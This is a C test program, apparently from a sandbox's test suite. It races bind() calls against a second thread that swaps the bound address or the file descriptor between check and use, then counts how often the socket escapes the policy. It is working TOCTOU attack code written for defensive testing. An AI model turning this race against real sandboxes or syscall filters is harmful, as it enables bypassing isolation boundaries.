/* SPDX-License-Identifier: Apache-2.0 */
/*
 * An attacker with two threads: one binds, again and again, while the other changes what is bound
 * between check and use.
 *
 *   bind-racer memory SIBLING TRIES   the address flips between "any" and the sibling's
 *   bind-racer swap SIBLING TRIES     the descriptor flips between a UNIX and an IP socket
 *
 * Prints "TRIES tries, N escapes": how often a socket was bound to the sibling's address, or to any.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

static _Atomic int stop;
static struct sockaddr_in shared;
static in_addr_t sibling;
static _Atomic int inet_fd;
static int slot;

static void* flip_memory(void* unused) {
  volatile in_addr_t* address = &shared.sin_addr.s_addr;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    *address = INADDR_ANY;
    *address = sibling;
  }
  return unused;
}

static void* flip_descriptor(void* unused) {
  const int plain = socket(AF_UNIX, SOCK_STREAM, 0);
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    dup2(plain, slot);
    dup2(atomic_load(&inet_fd), slot);
  }
  return unused;
}

/* Where the kernel says it is. An unbound one is no escape: it has no port. */
static int escaped(int fd) {
  struct sockaddr_in name = {0};
  socklen_t size = sizeof(name);
  if (getsockname(fd, (struct sockaddr*)&name, &size) != 0 || name.sin_family != AF_INET) return 0;
  return name.sin_addr.s_addr == sibling ||
         (name.sin_addr.s_addr == INADDR_ANY && name.sin_port != 0);
}

int main(int argc, char** argv) {
  const int swap = argc == 4 && strcmp(argv[1], "swap") == 0;
  const long tries = argc == 4 ? strtol(argv[3], NULL, 10) : 0;
  long escapes = 0;
  pthread_t other;
  if (tries <= 0) return 2;
  inet_pton(AF_INET, argv[2], &sibling);
  shared.sin_family = AF_INET;
  shared.sin_addr.s_addr = swap ? sibling : INADDR_ANY;
  atomic_store(&inet_fd, socket(AF_INET, SOCK_STREAM, 0));
  slot = dup(atomic_load(&inet_fd));
  pthread_create(&other, NULL, swap ? flip_descriptor : flip_memory, NULL);
  for (long i = 0; i < tries; i++) {
    if (swap) {
      syscall(SYS_bind, slot, &shared, sizeof(shared));
      escapes += escaped(atomic_load(&inet_fd));
    } else {
      const int fd = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
      syscall(SYS_bind, fd, &shared, sizeof(shared));
      escapes += escaped(fd);
      close(fd);
    }
  }
  atomic_store(&stop, 1);
  pthread_join(other, NULL);
  printf("%ld tries, %ld escapes\n", tries, escapes);
  return 0;
}
